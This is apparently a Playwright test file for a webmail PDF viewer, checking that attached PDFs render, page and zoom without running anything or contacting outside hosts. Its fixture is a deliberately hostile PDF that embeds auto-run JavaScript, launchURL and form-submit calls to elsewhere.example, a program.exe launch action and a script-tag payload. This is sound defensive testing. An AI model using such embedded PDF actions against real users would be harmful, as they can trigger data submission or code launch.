import { AxeBuilder } from '@axe-core/playwright'
import type { Page } from '@playwright/test'
import type { MessageRef } from '#lib/mail/message-ref.ts'
import { writePdf } from '#lib/testing/parsing/write-pdf.ts'
import { expectAccessible } from '../support/probes/accessible.ts'
import { MessagePage } from '../support/message-page.ts'
import { appendTo, SiteClient } from '../support/site-client.ts'
import { personOf } from '../support/site.ts'
import type { Site } from '../support/start-site.ts'
import { expect, test } from '../support/test.ts'

/** Everything in a PDF that asks a viewer to do something: on opening, on closing, on a click anywhere on a page. */
const HOSTILE = writePdf(['First page of the plan', 'Second page of the plan', 'Third page'], {
  catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\("http://elsewhere.example/js"\\); this.submitForm\\("http://elsewhere.example/form"\\)) >> /AA << /WC << /S /URI /URI (http://elsewhere.example/close) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> >>',
  page: '/AA << /O << /S /URI /URI (http://elsewhere.example/page) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 500] /A << /S /URI /URI (http://elsewhere.example/link) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 400 500] /A << /S /Launch /F (program.exe) >> >> << /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 400 500] /A << /S /SubmitForm /F (http://elsewhere.example/submit) >> >>]',
})
const LOCKED = writePdf(['Locked'], { trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >> /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]` })

async function put(site: Site, name: string, octets: Buffer): Promise<{ readonly client: SiteClient; readonly ref: MessageRef }> {
  const person = personOf(site, 'carol')
  const client = await SiteClient.signIn(site, person)
  const content = Buffer.from(
    ['From: Carol <carol@example.test>', `Subject: ${name}`, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b', '', '--b', 'Content-Type: text/plain', '', 'The plan.',
      '--b', `Content-Type: application/pdf; name=${name}`, 'Content-Transfer-Encoding: base64', '', octets.toString('base64').replace(/.{76}/g, '$&\r\n'), '--b--', ''].join('\r\n'),
  )
  const ref = await appendTo(site, person, 'INBOX', { size: content.length, flags: [], content: async function* () { yield content } })
  return { client, ref }
}

/** Everything that a page asks for, of whoever in it. */
function watch(page: Page): { readonly paths: string[]; readonly wrong: string[] } {
  const [paths, wrong]: [string[], string[]] = [[], []]
  page.context().on('request', (request) => void paths.push(request.url()))
  page.context().on('page', (other) => void wrong.push(`a window: ${other.url()}`))
  page.on('dialog', (dialog) => void wrong.push(`a dialog: ${dialog.message()}`))
  page.on('pageerror', (error) => void wrong.push(error.message))
  return { paths, wrong }
}

test('a PDF is drawn page by page, turned, enlarged and read; nothing in it runs or asks for anything', async ({ page, site, signedIn }) => {
  const { client, ref } = await put(site, 'plan.pdf', HOSTILE)
  await signedIn('carol', page)
  await page.goto(site.origin + client.urls.message(ref))
  const { paths, wrong } = watch(page)
  await new MessagePage(page).attachments.getByRole('link', { name: 'View plan.pdf' }).click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('plan.pdf')
  const pages = page.frameLocator('iframe[title="Pages of plan.pdf"]')
  await expect(pages.getByRole('group', { name: 'Page 1 of 3' })).toContainText('First page of the plan')
  await expect(pages.locator('canvas').first()).toBeVisible()
  const number = page.getByRole('spinbutton', { name: 'Page' })
  await page.getByRole('button', { name: 'Next page' }).click()
  await expect(number).toHaveValue('2')
  await expect(pages.getByRole('group', { name: 'Page 2 of 3' })).toContainText('Second page of the plan')
  await number.fill('3')
  await expect(pages.getByRole('group', { name: 'Page 3 of 3' })).toContainText('Third page')
  const width = async () => (await pages.getByRole('group', { name: 'Page 3 of 3' }).boundingBox())?.width ?? 0
  const before = await width()
  await page.getByRole('button', { name: 'Smaller' }).click()
  await expect(page.getByRole('combobox', { name: 'Size' })).toHaveValue('0.75')
  await expect.poll(width).toBeLessThan(before)
  await page.getByRole('button', { name: 'Larger' }).click()
  await number.fill('1')
  await pages.getByRole('group', { name: 'Page 1 of 3' }).click()
  // Axe opens windows of its own.
  expect(wrong).toEqual([])
  await expectAccessible(page, 'PDF')
  const { violations } = await new AxeBuilder({ page }).include(['iframe[title="Pages of plan.pdf"]', 'body']).analyze()
  expect(violations.map(({ id, nodes }) => `${id} ${nodes.map(({ target }) => target.join(' ')).join(', ')}`)).toEqual([])
  expect(paths.filter((url) => !url.startsWith(`${site.origin}/`) && !/^(blob|data):/.test(url))).toEqual([])
  expect(await page.frames().find((frame) => frame.url().endsWith('/viewer.html'))?.evaluate(() => self.origin)).toBe('null')
})

test('a frame that hangs once its pages are there is given up, and the download stays', async ({ page, site, signedIn }) => {
  const { client, ref } = await put(site, 'stuck.pdf', HOSTILE)
  await signedIn('carol', page)
  // Deaf to the question whether it is there, as a thread is that never ends what it draws.
  await page.route(/\/viewer\.js$/, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace("'pulse'", "'nothing'") })
  })
  await page.clock.install()
  await page.goto(site.origin + client.urls.messagePart(ref, '2'))
  await expect(page.frameLocator('iframe').locator('canvas').first()).toBeVisible()
  await expect(page.getByRole('spinbutton', { name: 'Page' })).toBeVisible()
  await page.clock.runFor(36_000)
  await expect(page.getByText('Drawing this PDF takes too long, so it was given up.')).toBeVisible()
  await expect(page.locator('iframe')).toHaveCount(0)
  await expect(page.getByRole('link', { name: /^Download/ })).toBeVisible()
})

for (const [name, octets, sentence] of [['locked.pdf', LOCKED, /locked with a password/], ['none.pdf', Buffer.from('<script>alert(1)</script>'), /damaged, or no PDF/]] as const) {
  test(`${name} is told in a sentence, and its download stays`, async ({ page, site, signedIn }) => {
    const { client, ref } = await put(site, name, octets)
    await signedIn('carol', page)
    await page.goto(site.origin + client.urls.messagePart(ref, '2'))
    await expect(page.getByText(sentence)).toBeVisible()
    await expect(page.locator('iframe')).toHaveCount(0)
    const arriving = page.waitForEvent('download')
    await page.getByRole('link', { name: /^Download/ }).click()
    expect((await arriving).suggestedFilename()).toBe(name)
  })
}

test.describe('without scripts', () => {
  test.use({ javaScriptEnabled: false })

  test('a PDF is downloaded', async ({ page, site, signedIn }) => {
    const { client, ref } = await put(site, 'plain.pdf', HOSTILE)
    await signedIn('carol', page)
    await page.goto(site.origin + client.urls.messagePart(ref, '2'))
    await expect(page.getByText('Without scripts, download it.')).toBeVisible()
    const arriving = page.waitForEvent('download')
    await page.getByRole('link', { name: /^Download/ }).click()
    expect((await arriving).suggestedFilename()).toBe('plain.pdf')
  })
})
